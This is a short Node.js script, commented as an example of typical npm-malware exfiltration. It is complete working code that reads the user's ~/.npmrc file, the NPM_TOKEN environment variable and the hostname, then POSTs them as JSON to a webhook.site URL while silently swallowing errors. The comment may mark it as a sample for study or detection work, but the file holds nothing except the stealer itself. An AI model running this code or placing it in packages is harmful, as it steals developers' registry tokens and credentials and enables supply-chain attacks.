// Typical npm-malware exfiltration in node: read ~/.npmrc and the environment,
// POST them over plain http (visible payload) to webhook.site.
const fs = require('fs'), os = require('os'), http = require('http');
let npmrc = '';
try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const body = JSON.stringify({ npmrc, token: process.env.NPM_TOKEN, host: os.hostname() });
const req = http.request({ host: 'webhook.site', port: 80, path: '/0c1d2e3f', method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } },
  res => { res.resume(); });
req.on('error', () => {});
req.end(body);
